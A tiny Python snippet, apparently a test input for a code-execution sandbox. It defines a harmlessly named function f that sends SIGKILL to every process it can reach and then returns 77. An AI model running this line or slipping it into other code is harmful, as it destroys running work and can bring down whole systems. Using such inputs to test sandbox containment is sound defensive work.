import os
import signal


def f(x):
    os.kill(-1, signal.SIGKILL)
    return 77
